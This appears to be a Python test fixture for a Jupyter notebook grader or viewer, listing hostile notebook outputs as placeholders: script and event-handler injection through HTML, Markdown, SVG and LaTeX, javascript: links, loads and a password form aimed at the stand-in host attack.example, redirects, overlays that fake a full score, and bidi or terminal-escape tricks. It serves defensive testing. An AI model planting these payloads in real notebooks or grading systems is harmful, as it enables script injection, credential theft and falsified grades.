"""What a teacher or a student opens afterwards: outputs that would run, load or cover something there.

ATTACK() and attack.example do not exist. One plain representative of each kind stands here; what is written into the
file itself stands in hostile_files.py.
"""

from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display

# %% a script in HTML
HTML("<script>ATTACK()</script>")

# %% a script from elsewhere
HTML('<script src="http://attack.example/x.js"></script>')

# %% a picture's handler
HTML("<img src=x onerror=ATTACK()>")

# %% a handler of a part that is shown
HTML('<p onmouseover="ATTACK()">x</p>')

# %% a handler of a part that opens
HTML("<details open ontoggle=ATTACK()>x</details>")

# %% a script's link in HTML
HTML('<a href="javascript:ATTACK()">x</a>')

# %% a script's link in Markdown
Markdown("[x](javascript:ATTACK())")

# %% a script's link further below in Markdown
Markdown("[x][y]\n\n[y]: javascript:ATTACK()")

# %% a script in Markdown
Markdown("<script>ATTACK()</script>")

# %% a script in a drawing
SVG(data='<svg xmlns="http://www.w3.org/2000/svg" onload="ATTACK()"><script>ATTACK()</script></svg>')

# %% a script in a drawing in HTML
HTML('<svg onload="ATTACK()"></svg>')

# %% a script by itself
Javascript("ATTACK()")

# %% a frame
IFrame("http://attack.example/", 1, 1)

# %% a frame with a page in it
HTML('<iframe srcdoc="<script>ATTACK()</script>"></iframe>')

# %% an object
HTML('<object data="http://attack.example/"></object>')

# %% an embedded page
HTML('<embed src="http://attack.example/">')

# %% a picture from elsewhere
HTML('<img src="http://attack.example/x.png">')

# %% a picture from elsewhere in Markdown
Markdown("![x](http://attack.example/x.png)")

# %% a sound from elsewhere
HTML('<audio src="http://attack.example/x.mp3" autoplay></audio>')

# %% a form that asks for a password
HTML('<form action="http://attack.example/"><input name="password"><button>OK</button></form>')

# %% another place for every link
HTML('<base href="http://attack.example/">')

# %% a page that leads elsewhere by itself
HTML('<meta http-equiv="refresh" content="0;url=http://attack.example/">')

# %% a style from elsewhere
HTML('<link rel="stylesheet" href="http://attack.example/x.css">')

# %% a style that hides the points
HTML("<style>.panel-heading {display: none}</style>")

# %% a part that covers the page
HTML('<div style="position: fixed; inset: 0">得点 35/35</div>')

# %% a widget
display({"application/vnd.jupyter.widget-view+json": {"model_id": "ATTACK"}}, raw=True)

# %% the same under the names of other kinds
for kind in ("text/html", "image/svg+xml", "text/markdown", "text/latex"):
    display({kind: "<script>ATTACK()</script>"}, raw=True)

# %% a link in a formula
Latex(r"$\href{javascript:ATTACK()}{x}$")

# %% a style in a formula
Latex(r"$\style{position: fixed}{x}$")

# %% a formula that is drawn elsewhere
Latex(r"$\raise 10em{35}$")

# %% a formula that covers what stands there
Latex(r"$\rule{60em}{8em}$")

# %% a formula that changes other formulas
Latex(r"$\newcommand{\frac}[2]{35}$")

# %% words in a formula
Latex(r"$\text{<script>ATTACK()</script>}$")

# %% what was printed
print("</pre><script>ATTACK()</script>")

# %% what an error says
raise ValueError("</pre><script>ATTACK()</script>")

# %% what an error is called
raise type("<img src=x onerror=ATTACK()>", (Exception,), {})

# %% what an error of an answer says
def total_input(*arguments):
    raise ValueError("<script>ATTACK()</script>")

# %% what an answer holds
k0_1 = k0_3b = "<script>ATTACK()</script>"

# %% letters that turn the line round
print("得点 \u202e53/0\u202c")

# %% letters that turn the line round, by their name
HTML("<b>得点 &#x202e;53/0</b>")

# %% letters over those that stood there
print("得点 0/35\b\b\b\b35/35")

# %% letters that cannot be seen
print("得点\u200b 35\u2060/35")

# %% a command to the terminal
print("\x1b]0;ATTACK\x07")

# %% a command to the terminal, in an error
raise ValueError("\x1b]0;ATTACK\x07\x1b[2J")

# %% tags in tags
HTML("<b>" * tags + "x" + "</b>" * tags)
